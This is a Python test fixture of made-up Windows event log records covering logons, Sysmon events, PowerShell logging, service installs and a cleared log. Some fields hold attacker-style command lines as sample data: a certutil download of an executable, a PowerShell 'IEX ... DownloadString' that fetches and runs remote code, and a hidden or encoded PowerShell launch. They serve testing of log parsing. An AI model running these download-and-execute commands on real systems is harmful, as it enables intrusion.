"""EVTX records as the library gives them: made up, with the fields that such events have."""

from __future__ import annotations

from typing import Any

_SECURITY = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D", "Security")
_SYSMON = (
    "Microsoft-Windows-Sysmon",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
    "Microsoft-Windows-Sysmon/Operational",
)
_POWERSHELL = (
    "Microsoft-Windows-PowerShell",
    "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
    "Microsoft-Windows-PowerShell/Operational",
)
_CLASSIC = ("PowerShell", None, "Windows PowerShell")
_SERVICES = ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}", "System")
_EVENTLOG = ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", "Security")


def _event(source: tuple[str, str | None, str], event_id: Any, **sections: Any) -> dict[str, Any]:
    provider, guid, channel = source
    attributes = {"Name": provider} | ({"Guid": guid} if guid else {})
    system = {
        "Provider": {"#attributes": attributes},
        "EventID": event_id,
        "Version": 2,
        "Level": 0,
        "TimeCreated": {"#attributes": {"SystemTime": "2024-05-06T07:08:09.123456Z"}},
        "EventRecordID": 77,
        "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 8}},
        "Channel": channel,
        "Computer": "ws1.example.org",
        "Security": {"#attributes": {"UserID": "S-1-5-18"}},
    }
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com"}, "System": system, **sections}}


_CONTEXT = "".join(
    f"        {name} = {value}\r\n"
    for name, value in {
        "Severity": "Informational",
        "Host Name": "ConsoleHost",
        "Host Version": "5.1.17763.1",
        "Host ID": "cc12ff5d-35d0-494b-b5cf-68b53f233298",
        "Host Application": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden",
        "Engine Version": "5.1.17763.1",
        "Runspace ID": "0729459a-8646-4176-8b02-024421a9632e",
        "Pipeline ID": "34",
        "Command Name": "Invoke-Expression",
        "Command Type": "Cmdlet",
        "Script Name": "",
        "Command Path": "",
        "Sequence Number": "54",
        "User": "EXAMPLE\\alice",
        "Connected User": "",
        "Shell ID": "Microsoft.PowerShell",
    }.items()
)
_BLOB = (
    "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n"
    "\tHostVersion=5.1.17763.1\r\n\tHostId=c421107c-7ef6-4e60-ab5f-dd4d24caffe3\r\n"
    '\tHostApplication="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc SQBFAFgA\r\n'
    "\tEngineVersion=5.1.17763.1\r\n\tRunspaceId=0729459a-8646-4176-8b02-024421a9632e\r\n\tPipelineId=\r\n"
    "\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine="
)

LOGON = _event(
    _SECURITY,
    4624,
    EventData={
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "WS1$",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-5-21-1-2-3-1104",
        "TargetUserName": "alice",
        "TargetDomainName": "EXAMPLE",
        "TargetLogonId": "0x10FAC2",
        "LogonType": 3,
        "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM",
        "WorkstationName": "-",
        "LogonGuid": "5FDB15EE-2283-F23C-E23B-5E5DDB11BB9C",
        "TransmittedServices": "-",
        "KeyLength": 128,
        "ProcessId": "0x0",
        "ProcessName": "-",
        "IpAddress": "::ffff:10.0.0.5",
        "IpPort": "55585",
        "ImpersonationLevel": "%%1833",
        "TargetOutboundUserName": None,
    },
)
PROCESS = _event(
    _SECURITY,
    4688,
    EventData={
        "SubjectUserSid": "S-1-5-21-1-2-3-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x10fac2",
        "NewProcessId": "0x169c",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "TokenElevationType": "%%1936",
        "ProcessId": "0xc8c",
        "CommandLine": 'cmd.exe /c echo "a & b" > c:\\x.txt',
        "ParentProcessName": "C:\\Windows\\explorer.exe",
    },
)
CONNECTION = _event(
    _SECURITY,
    5156,
    EventData={
        "ProcessID": 832,
        "Application": "\\device\\harddiskvolume2\\windows\\system32\\svchost.exe",
        "Direction": "%%14593",
        "SourceAddress": "192.168.2.5",
        "SourcePort": "56628",
        "DestAddress": "168.63.129.16",
        "DestPort": "80",
        "Protocol": 6,
        "FilterRTID": 69895,
        "LayerName": "%%14611",
        "LayerRTID": 48,
    },
)
SYSMON_PROCESS = _event(
    _SYSMON,
    1,
    EventData={
        "RuleName": "",
        "UtcTime": "2024-05-06 07:08:09.001",
        "ProcessGuid": "6A910B9D-498A-5EE0-C903-000000000400",
        "ProcessId": 6196,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://10.0.0.9/a.exe a.exe",
        "User": "EXAMPLE\\alice",
        "LogonGuid": "6A910B9D-57B2-5FFF-0000-002032970400",
        "LogonId": "0x49732",
        "TerminalSessionId": 1,
        "IntegrityLevel": "High",
        "Hashes": "MD5=06210E84C1FA61B0A320559DD458625C",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
    },
)
SYSMON_CONNECTION = _event(
    _SYSMON,
    3,
    EventData={
        "RuleName": "-",
        "UtcTime": "2024-05-06 07:08:09.001",
        "ProcessGuid": "6A910B9D-498A-5EE0-C903-000000000400",
        "ProcessId": 292,
        "Image": "C:\\Windows\\System32\\svchost.exe",
        "User": "NT AUTHORITY\\NETWORK SERVICE",
        "Protocol": "tcp",
        "Initiated": True,
        "SourceIsIpv6": False,
        "SourceIp": "172.18.39.5",
        "SourcePort": 57638,
        "DestinationIp": "172.18.39.102",
        "DestinationPort": 5985,
    },
)
SYSMON_KEY = _event(
    _SYSMON,
    12,
    EventData={
        "EventType": "DeleteValue",
        "UtcTime": "2024-05-06 07:08:09.001",
        "ProcessId": 4532,
        "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\x",
    },
)
MODULE = _event(
    _POWERSHELL,
    4103,
    EventData={"ContextInfo": _CONTEXT, "UserData": "", "Payload": 'CommandInvocation(Invoke-Expression): "iex"\r\n'},
)
SCRIPT = _event(
    _POWERSHELL,
    4104,
    EventData={
        "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')\r\nWrite-Host x\r\n",
        "ScriptBlockId": "f4a378ab-b74f-41a7-a5ef-6dd55562fdb9",
        "Path": "",
    },
)
CLASSIC = _event(_CLASSIC, 400, EventData={"Data": {"#text": ["Available", "None", _BLOB]}, "Binary": None})
SERVICE = _event(
    _SERVICES,
    {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
    EventData={
        "ServiceName": "updater",
        "ImagePath": "%COMSPEC% /C start /b C:\\x.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    },
)
STATE = _event(_SERVICES, 7036, EventData={"param1": "Netlogon", "param2": "running", "Binary": "4E00650074"})
CLEARED = _event(
    _EVENTLOG,
    1102,
    UserData={
        "LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": "S-1-5-21-1-2-3-500",
            "SubjectUserName": "Administrator",
            "SubjectDomainName": "WS1",
            "SubjectLogonId": "0xe7a0c",
        },
    },
)

ALL = {
    "logon": LOGON,
    "process": PROCESS,
    "connection": CONNECTION,
    "sysmon-process": SYSMON_PROCESS,
    "sysmon-connection": SYSMON_CONNECTION,
    "sysmon-key": SYSMON_KEY,
    "module": MODULE,
    "script": SCRIPT,
    "classic": CLASSIC,
    "service": SERVICE,
    "state": STATE,
    "cleared": CLEARED,
}
NAMED = {name: tree for name, tree in ALL.items() if name not in ("classic", "cleared")}
"""Those whose data are all named and lie in EventData."""
